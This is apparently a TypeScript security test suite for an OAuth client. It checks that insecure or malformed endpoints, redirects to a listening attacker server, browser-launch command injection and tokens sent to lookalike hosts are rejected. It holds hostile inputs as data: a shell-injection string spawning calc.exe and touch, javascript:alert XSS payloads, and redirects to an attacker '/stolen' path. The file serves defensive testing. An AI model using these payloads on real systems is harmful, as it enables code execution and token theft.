/** AT-27 to AT-29, AT-35, AT-41: where a request may go, and what it takes along. RFC 6749, 3.1; RFC 6750; RFC 9700. */
import type { Case, Variant } from './case.ts';
import { redirect, withMembers } from './forged.ts';
import { argumentsOfBrowser } from './opened.ts';
import { deliver, follow } from './person.ts';
import { CLIENT_ID, type Stage } from './stage.ts';
import { deviant, KEYS, login, METADATA, userinfo, way } from './ways.ts';

const FRESH = { fresh: true, asks: METADATA } as const;

/** Metadata as they are, but for one member. */
const metadata = (name: string, value: string, outcome: string): Variant =>
  login(`${name}: ${value}`, { replies: { metadata: withMembers(() => ({ [name]: value })) } }, outcome, FRESH);

/** The same address in the settings of an application. */
const configured = (name: string, value: string, outcome: string): Variant =>
  way(`settings with ${name}: ${value}`, outcome, async (stage) => ({
    outcome: await stage.codeOf(() => stage.clientOf({ server: { ...stage.as.server, [name]: value } } as never)),
  }));

/** To a server that is there, and would take the secrets. */
const redirected = (status: number): Variant =>
  login(
    `${status} to a server that listens`,
    ({ attacker }) => ({ replies: { token: redirect(`${attacker.origin}/token`, status) } }),
    'unexpected_redirect',
  );

/** A login whose authorization endpoint holds what a shell would act on, in the browser of the system. */
async function shell(stage: Stage, hostile: string) {
  const authorizationEndpoint = `${stage.as.server.authorizationEndpoint}?x=${hostile}`;
  const cancel = new AbortController();
  const client = stage.clientOf({ server: { ...stage.as.server, authorizationEndpoint }, openBrowser: true } as never);
  const [given, outcome] = await argumentsOfBrowser(
    () => stage.codeOf(client.login({ cancel: cancel.signal, loginHint: hostile, extra: { ui: hostile } })),
    () => cancel.abort(),
  );
  const [url = ''] = given;
  const wrongs = [
    ...(given.length === 1 ? [] : [`the browser gets ${given.length} arguments`]),
    ...(url.startsWith(authorizationEndpoint) ? [] : ['the browser gets another address']),
  ];
  return { outcome, wrongs };
}

const SHELL = "$(touch$IFS'pwned')&calc.exe&-e=1;touch$IFS'pwned'&*=!~";

const unlisted = (url: string): Variant =>
  way(`fetch of ${url}`, 'api_not_listed', async (stage) => {
    const client = stage.clientOf({ apis: ['https://api.example.com'] });
    return { outcome: await stage.codeOf(client.fetch(url), 'fetched') };
  });

export const ENDPOINTS: readonly Case[] = [
  {
    id: 'AT-27',
    title: 'http or odd token endpoint',
    variants: [
      metadata('token_endpoint', 'http://as.example.com/token', 'insecure_endpoint'),
      deviant('token_endpoint_javascript', 'invalid_metadata', FRESH),
      deviant('token_endpoint_data', 'invalid_metadata', FRESH),
      deviant('token_endpoint_with_fragment', 'invalid_metadata', FRESH),
      metadata('token_endpoint', 'https://u:p@as.example.com/token', 'invalid_metadata'),
      deviant('token_endpoint_missing', 'invalid_metadata', FRESH),
      deviant('token_endpoint_in_array', 'invalid_metadata', FRESH),
      configured('tokenEndpoint', 'http://as.example.com/token', 'insecure_endpoint'),
      configured('tokenEndpoint', 'javascript:alert(1)', 'invalid_metadata'),
    ],
  },
  {
    id: 'AT-28',
    title: '`javascript:` authorization or logout endpoint -> XSS by `location.assign`',
    variants: [
      deviant('authorization_endpoint_javascript', 'invalid_metadata', FRESH),
      deviant('logout_endpoint_javascript', 'invalid_metadata', FRESH),
      configured('authorizationEndpoint', 'javascript:alert(document.domain)//', 'invalid_metadata'),
      configured('endSessionEndpoint', 'javascript:alert(document.domain)//', 'invalid_metadata'),
      configured('vendorLogoutEndpoint', 'javascript:alert(document.domain)//', 'invalid_metadata'),
      way('vendorLogoutEndpoint beside an issuer', 'invalid_metadata', async (stage) => ({
        outcome: await stage.codeOf(() => stage.clientOf({ vendorLogoutEndpoint: 'javascript:alert(1)' } as never)),
      })),
    ],
  },
  {
    id: 'AT-29',
    title: 'Token endpoint redirects',
    variants: [
      deviant('token_endpoint_redirects', 'unexpected_redirect'),
      deviant('token_endpoint_redirects_with_302', 'unexpected_redirect'),
      deviant('token_endpoint_redirects_to_http', 'unexpected_redirect'),
      ...[301, 302, 303, 307, 308].map(redirected),
    ],
  },
  {
    id: 'AT-35',
    title: 'Command injection when opening the browser',
    variants: [
      way('what a shell acts on, in the address', 'user_cancelled', (stage) => shell(stage, SHELL)),
      way('-e and " & calc.exe, in a parameter', 'invalid_metadata', async (stage) => {
        const authorizationEndpoint = '-e " & calc.exe `id` $(id)';
        const server = { ...stage.as.server, authorizationEndpoint };
        return { outcome: await stage.codeOf(() => stage.clientOf({ server, clientId: CLIENT_ID } as never)) };
      }),
    ],
  },
  {
    id: 'AT-41',
    title: 'Token sent to the wrong host',
    variants: [
      unlisted('https://api.example.com.evil.example/contacts'),
      unlisted('http://api.example.com/contacts'),
      way(
        'redirect from the API to another origin',
        'fetched',
        async (stage) => {
          const api = new URL(stage.as.server.userinfoEndpoint ?? '');
          stage.turn({ replies: { userinfo: redirect(`${stage.attacker.origin}/stolen`) } });
          const client = stage.clientOf({ apis: [api.origin] });
          return { outcome: await stage.codeOf(client.fetch(api), 'fetched') };
        },
        { asks: ['userinfo'], attackerHears: 1 },
      ),
      userinfo('userinfo_redirects', { deviations: ['userinfo_redirects'] }, 'unexpected_redirect'),
      userinfo(
        'userinfo redirects to a server that listens',
        ({ attacker }) => ({ replies: { userinfo: redirect(`${attacker.origin}/userinfo`) } }),
        'unexpected_redirect',
      ),
      way(
        'an honest API, for comparison',
        'fetched',
        async (stage) => {
          const api = new URL(stage.as.server.userinfoEndpoint ?? '');
          const client = stage.clientOf({ apis: [api.origin] });
          const outcome = await stage.codeOf(client.fetch(api), 'fetched');
          const told = stage.wire.exchanges.at(-1)?.headers['authorization'];
          await deliver(await follow((await stage.begin()).url));
          return { outcome, wrongs: told ? [] : ['the API gets no token'] };
        },
        { accepted: true, asks: [...KEYS, 'userinfo'] },
      ),
    ],
  },
];
